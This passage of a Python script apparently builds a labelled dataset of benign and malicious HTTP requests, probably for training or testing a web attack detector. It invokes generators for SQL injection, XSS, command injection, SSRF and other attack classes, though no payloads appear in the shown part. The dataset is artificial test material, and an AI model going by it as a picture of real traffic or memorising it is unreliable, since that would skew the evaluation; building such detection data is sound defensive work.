        parts += ["recent_search=" + e(pick(SEARCHES)), "display_name=" + e(pick(NAMES)), "JSESSIONID=" + rhex(32).upper()]
        nt = note_for("cookies with encoded user text", parts[-2], parts[-3])
    R.shuffle(parts)
    h = base_headers(api=R.random() < 0.5)
    set_header(h, "Cookie", "; ".join(parts))
    return G("cookie", "GET", pick(["/", "/account", "/api/cart", "/checkout", "/api/v1/me"]), "", h, note=nt)


BENIGN_GENS = [
    (bq_search, 55), (bq_names, 25), (bq_misc, 40), (bq_graphql_get, 12), (bq_odata, 25),
    (bqn_jsonapi, 30), (bqn_misc, 25), (bpath, 55),
    (bjson_profile, 35), (bjson_ticket, 35), (bjson_snippet, 30), (bjson_order, 25), (bjson_graphql, 25), (bjson_special, 30),
    (bform, 70), (bmultipart, 50), (bxml, 55), (bheader, 45), (bua, 40), (breferer, 50), (bcookie, 45),
]


def build_benign(target=800):
    B = Builder("ch")
    seen = set()
    for gen_fn, n in BENIGN_GENS:
        made, tries = 0, 0
        while made < n and tries < n * 30:
            tries += 1
            g = gen_fn()
            key = (g["path"], g["query"], g["body"], g["loc"], json.dumps([kv for kv in g["headers"] if kv[0] in ("Cookie", "Referer", "Authorization", "X-Forwarded-For")]) if g["loc"] in ("header", "cookie", "referer") else "",
                   [kv[1] for kv in g["headers"] if kv[0] == "User-Agent"][0] if g["loc"] == "user_agent" else "")
            if key in seen:
                continue
            seen.add(key)
            if B.add("benign", g["loc"], g["method"], g["path"], g["query"], g["headers"], g["ct"], g["body"], g["note"]):
                made += 1
    return B


def main():
    A = Builder("ch")
    for f in (attacks_sqli, attacks_xss, attacks_traversal, attacks_cmdi, attacks_crlf, attacks_php, attacks_java, attacks_rfi, attacks_nosqli, attacks_ssrf):
        f(A)
    A.write("attacks.jsonl")
    Bn = build_benign()
    Bn.write("benign.jsonl")
    tab = Counter()
    for r in A.rows + Bn.rows:
        tab[(r["class"], r["location"])] += 1
    classes = ["sqli", "xss", "traversal", "cmdi", "crlf", "php", "java", "rfi", "nosqli", "ssrf", "benign"]
    locs = ["query", "query_name", "path", "json", "form", "multipart", "xml", "header", "user_agent", "referer", "cookie"]
    short = ["qry", "qname", "path", "json", "form", "mpart", "xml", "hdr", "ua", "ref", "cook"]
    print("%-10s" % "class" + "".join("%6s" % s for s in short) + "%7s" % "total")
    for c in classes:
        print("%-10s" % c + "".join("%6d" % tab[(c, l)] for l in locs) + "%7d" % sum(tab[(c, l)] for l in locs))
    print("attacks: %d  benign: %d  (grey benign: %d)" % (len(A.rows), len(Bn.rows), sum(1 for r in Bn.rows if r["note"].startswith("grey:"))))
    print("wrote", os.path.join(OUT, "attacks.jsonl"), os.path.join(OUT, "benign.jsonl"))


if __name__ == "__main__":
    main()
